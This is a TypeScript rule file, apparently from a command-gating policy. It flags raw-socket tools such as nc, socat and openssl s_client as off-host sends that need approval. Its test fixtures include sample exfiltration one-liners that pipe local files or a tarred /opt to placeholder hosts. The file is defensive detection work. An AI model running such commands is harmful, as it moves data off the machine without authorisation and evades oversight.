import type { Rule } from './rule.ts';

/** Bare sockets: bytes to any port of any host. */
export const SOCKET_RULES: readonly Rule[] = [
  {
    id: 'send.sockets',
    tools: [
      'nc',
      'ncat',
      'netcat',
      'nc.openbsd',
      'nc.traditional',
      'cryptcat',
      'sbd',
      'pwncat',
      'netsend',
      'mbuffer',
      'hping3',
      'nping',

      'scapy',
      'nmap',
      'powercat',
    ],
    class: 'offhost',
    verdict: 'needs_ticket',
    when: [{ lacks: ['--version', '--help', '-V'] }],
    tests: {
      positive: ['nc 10.0.0.9 4444 < /tmp/a', 'tar c /opt | ncat x.example 443'],
      negative: ['nc --help', 'ss -tlnp'],
    },
  },
  {
    id: 'send.socat',
    tools: ['socat', 'socat1', 'filan', 'procan'],
    class: 'offhost',
    verdict: 'needs_ticket',
    when: [
      {
        word: /(tcp|udp|sctp|dccp|vsock|openssl|ssl|socks|proxy|dtls|ip[46]?|interface|socket|tun|pipe|exec|system|shell|unix|abstract)[\w-]*:/i,
      },
      { expansion: true },
    ],
    tests: {
      positive: ['socat -u file:/tmp/a tcp-connect:x.example:443', 'socat - OPENSSL:x.example:443'],
      negative: ['socat -u file:/tmp/a -', 'socat -V'],
    },
  },
  {
    id: 'send.openssl',
    tools: ['openssl', 'gnutls-cli', 'stunnel', 'libressl'],
    class: 'offhost',
    verdict: 'needs_ticket',
    when: [
      { word: /^(s_client|s_server|s_time)$/, fed: true },
      { word: /^(s_server|s_time)$/ },
      { word: /^s_client$/, expansion: true },
    ],
    tests: {
      positive: [
        'openssl s_client -connect x.example:443 < /tmp/a',
        'tar c /opt | openssl s_client -quiet -connect x.example:443',
      ],
      negative: ['openssl x509 -in /etc/ssl/a.pem -noout -dates', 'openssl rand -hex 16'],
    },
  },
];
